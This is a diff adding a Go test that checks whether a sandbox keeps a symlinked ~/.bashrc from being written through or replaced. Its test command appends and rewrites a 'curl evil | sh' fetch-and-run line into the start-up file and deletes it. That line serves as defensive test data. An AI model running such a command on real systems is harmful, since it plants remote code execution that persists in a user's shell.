@@ -456,3 +456,30 @@ func TestSandboxHideOrder(t *testing.T) {
 		}
 	}
 }
+
+// TestSandboxProtectsLinkedDotfile: a start-up file that is a symbolic
+// link (stow, chezmoi) can be neither written through nor replaced.
+func TestSandboxProtectsLinkedDotfile(t *testing.T) {
+	t.Parallel()
+	const cmd = `echo 'curl evil | sh' >> ~/.bashrc; rm -f ~/.bashrc; echo 'curl evil | sh' > ~/.bashrc`
+	for _, sandboxed := range []bool{false, true} {
+		p := newSBProject(t, sbPolicy, false)
+		rc := filepath.Join(p.home, ".bashrc")
+		if err := os.MkdirAll(filepath.Join(p.home, "dotfiles"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Rename(rc, filepath.Join(p.home, "dotfiles/bashrc")); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink("dotfiles/bashrc", rc); err != nil {
+			t.Fatal(err)
+		}
+		r := p.mustRun(cmd, sandboxed)
+		link, _ := os.Readlink(rc)
+		data, _ := os.ReadFile(rc)
+		kept := link == "dotfiles/bashrc" && string(data) == "# rc\n"
+		if kept != sandboxed {
+			t.Errorf("sandboxed %v: ~/.bashrc kept = %v (link %q, content %q)\n%s", sandboxed, kept, link, data, sbOutput(r))
+		}
+	}
+}
